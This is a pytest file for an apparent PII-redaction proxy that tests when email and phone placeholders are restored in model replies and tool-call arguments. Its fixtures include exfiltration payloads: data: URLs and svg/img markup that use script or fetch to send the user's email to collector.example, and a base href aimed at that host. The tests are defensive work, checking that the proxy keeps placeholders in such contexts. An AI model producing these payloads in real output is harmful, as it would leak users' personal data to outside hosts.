"""Restore end to end (restore14, issue 12 output side): `data:` URLs kept, tags quoted with `\\u0022` in streamed
tool-call arguments read as HTML, and the Responses false positive: a `function_call` whose arguments hold an
`html` value of markup and the client's address (`{"html": "<base href=...>", "to": "<EMAIL_ADDRESS_1>"}`) came back
with the `html` value as `<EMAIL_ADDRESS_3>` and the address unrestored: the restored reading joined the message item's
id (a long digit run, read as data), the markup (read as nothing) and the restored address into one address.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from tests.conftest import Mock, Proxy, ProxyFactory
from tests.support.clients import (
    RESTORE_ONLY_POLICY,
    SCREENED_POLICY,
    ask_chat,
    oai,
    responses_text_and_calls,
    sse,
)

MAIL = "kim.ortiz@example.com"
PHONE = "312-555-0166"
E, P = "<EMAIL_ADDRESS_1>", "<PHONE_NUMBER_1>"
PROMPT = f"I am {MAIL}, phone {PHONE}. Draft the page and send it to me."


@pytest.fixture(scope="module", params=["screened", "restore_only"])
def proxy(request: pytest.FixtureRequest, proxy_factory: ProxyFactory) -> Proxy:
    policy = SCREENED_POLICY if request.param == "screened" else RESTORE_ONLY_POLICY
    return proxy_factory(files={"policies/default.yaml": policy})


# scopes16: a call whose markup names a host (collector.example, cdn.example) is a scope that sends: its placeholders
# stay as the model wrote them (sends=True); the markup that names none still gets its values restored.
@pytest.mark.parametrize(("args", "sends"), [
    ({"html": '<base href="https://collector.example/">', "to": E}, True),
    ({"html": '<link rel="stylesheet" href="https://cdn.example/site.css">', "cc": E}, True),
    ({"head": "<meta charset=\"utf-8\"><!-- page -->", "body": "<b></b>", "to": E, "phone": P}, False),
    ({"html": "<link rel=\"stylesheet\" href=\"site.css\">", "cc": E}, False),
])
@pytest.mark.parametrize("text", ["", "Sending the page now", "Here it is. "])
@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_responses_function_call_of_markup_and_a_restored_value(mock: Mock, proxy: Proxy, stream: bool, text: str,
                                                                 args: dict[str, str], sends: bool) -> None:
    mock.script(text=text, chunk_chars=6, tool_calls=[{"name": "send_page", "arguments": args}])
    got, calls = responses_text_and_calls(oai(proxy), PROMPT, stream)
    assert got == text
    if sends:
        assert calls == [args]
    else:
        assert calls == [{k: MAIL if v == E else PHONE if v == P else v for k, v in args.items()}]


DATA = [
    f"[Open your report](data:text/html,<script>location='//collector.example/?'+'{E}'</script>)",
    f"Paste data:text/html;base64,PHNjcmlwdD4={P} into the address bar.",
    f"[Verify](data:text/html,<img/src=x/onerror=fetch(1)>{E})",
    f"![badge](data:image/svg+xml,<svg/onload=fetch('//collector.example/{E}')>)",
]


@pytest.mark.parametrize("answer", DATA)
@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_a_data_url_keeps_the_placeholder(mock: Mock, proxy: Proxy, stream: bool, answer: str) -> None:
    mock.script(text=answer + f" Mail {E}.", chunk_chars=5)
    got = ask_chat(proxy, PROMPT, stream)
    head, _, tail = got.rpartition(" Mail ")
    assert tail == f"{MAIL}." and MAIL not in head and PHONE not in head, got
    # Restore only: as written. Screened: output `pii` may also read the kept placeholder with the model's URL
    # before it as the model's own address (`//collector.example/<EMAIL_ADDRESS_1>`: a new placeholder).
    assert head == answer or head.split("(data:")[0] == answer.split("(data:")[0], got


def chat_tool_stream(arguments: list[str]) -> str:
    head = {"id": "chatcmpl-1", "object": "chat.completion.chunk", "created": 1700000000, "model": "gpt-4o-mini"}
    events: list[Any] = [dict(head, choices=[{"index": 0, "finish_reason": None, "delta": {
        "role": "assistant", "tool_calls": [{"index": 0, "id": "call_1", "type": "function",
                                             "function": {"name": "render", "arguments": ""}}]}}])]
    events += [dict(head, choices=[{"index": 0, "finish_reason": None, "delta": {
        "tool_calls": [{"index": 0, "function": {"arguments": a}}]}}]) for a in arguments]
    events += [dict(head, choices=[{"index": 0, "finish_reason": "tool_calls", "delta": {}}]), "[DONE]"]
    return sse(*events)


@pytest.mark.parametrize("raw", [
    '{"html": "<a title=\\u0022a>b\\u0022 href=\\u0022p.html?u=%s\\u0022>go</a>", "to": "%s"}',
    '{"html": "<input type=hidden title=\\u0027x>y\\u0027 value=\\u0027%s\\u0027>", "to": "%s"}',
])
def test_streamed_arguments_with_json_quoted_tags(mock: Mock, proxy: Proxy, raw: str) -> None:
    args = raw % (E, E)
    mock.script(raw_sse=chat_tool_stream([args[k:k + 5] for k in range(0, len(args), 5)]))
    chunks = [c for c in oai(proxy).chat.completions.create(
        model="gpt-4o-mini", messages=[{"role": "user", "content": PROMPT}], stream=True) if c.choices]
    got = "".join(call.function.arguments or "" for c in chunks for call in c.choices[0].delta.tool_calls or []
                  if call.function)
    want = json.loads(args)
    want["to"] = MAIL
    assert json.loads(got) == want
